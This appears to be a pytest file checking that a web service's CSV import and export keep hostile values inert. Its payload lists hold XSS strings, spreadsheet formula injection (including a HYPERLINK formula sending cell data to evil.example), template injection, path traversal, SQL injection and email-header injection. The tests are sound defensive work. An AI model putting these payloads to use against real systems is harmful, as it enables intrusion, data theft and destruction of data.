"""What could do harm comes in as text, is shown as text, and goes out as no formula."""

import csv
import io
import zipfile

import pytest

from service.bringing.sheet import sample
from service.formulas import plain_cell, text_of_cell
from tests.pages.site import Site

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7} #{7*7} %s %(x)s {0}",
    "../../../../etc/passwd",
    "Robert'); DROP TABLE buyer;--",
    "&lt;b&gt; &amp; ]]>",
]
REFUSED = ["Odo\r\nBcc: all@evil.example", "Odo\x00", "Odo\x1b[2J", "Odo\u2028x"]


def table(buyer: str) -> bytes:
    """A file with one order, of that buyer, as a spreadsheet program writes it."""
    rows = list(csv.reader(io.StringIO(sample().decode("utf-8-sig"))))[:3:2]
    rows[1][0] = buyer
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def bring(site: Site, content: bytes) -> str:
    kept = site.client.post("/bring-in", files={"file": ("a.csv", content, "text/csv")})
    assert kept.status_code in {200, 422}, kept.text
    done = site.client.post(f"{kept.url.path}/do")
    return kept.text + done.text


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("marked", [False, True], ids=["as it is", "as we take it out"])
def test_it_comes_in_as_text_and_goes_out_as_no_formula(
    site: Site,
    payload: str,
    marked: bool,  # noqa: FBT001 - a parameter of the test
) -> None:
    seen = bring(site, table(plain_cell(payload) if marked else payload))
    (line,) = site.client.get("/api/v1/orders").json()["orders"]
    assert line["buyer"] == payload
    pages = [seen, *(site.get(path).html for path in ("/orders", f"/orders/{line['number']}",
             "/buyers", "/buyers/1"))]  # fmt: skip
    for html in pages:
        assert "<script>alert" not in html
        assert "<img src=x" not in html
        assert "49{%" not in html
    care = site.client.get(f"/api/v1/orders/{line['number']}/care-sheet.pdf")
    assert care.status_code == 200

    whole = site.client.get("/api/v1/take-out/everything.zip").content
    with zipfile.ZipFile(io.BytesIO(whole)) as files:
        text = files.read("tables/buyer.csv").decode("utf-8-sig")
    cell = next(csv.DictReader(io.StringIO(text)))["name"]
    assert cell[0] not in "=+-@"
    assert text_of_cell(cell) == payload


@pytest.mark.parametrize("payload", REFUSED)
def test_what_no_line_can_hold_is_refused_and_told(site: Site, payload: str) -> None:
    seen = bring(site, table(payload))

    assert "one line" in seen or "control character" in seen or "no CSV file" in seen
    assert site.count() == 0
